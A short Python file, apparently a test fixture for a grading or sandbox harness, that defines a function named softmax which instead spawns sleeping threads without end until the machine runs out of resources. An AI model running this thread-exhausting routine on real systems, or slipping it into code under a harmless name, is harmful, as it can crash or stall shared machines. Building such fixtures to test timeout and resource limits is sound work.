"""fail or timeout: starts threads until the machine has no more."""
import threading
import time

threading.stack_size(1 << 16)


def softmax(scores, axis=-1):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
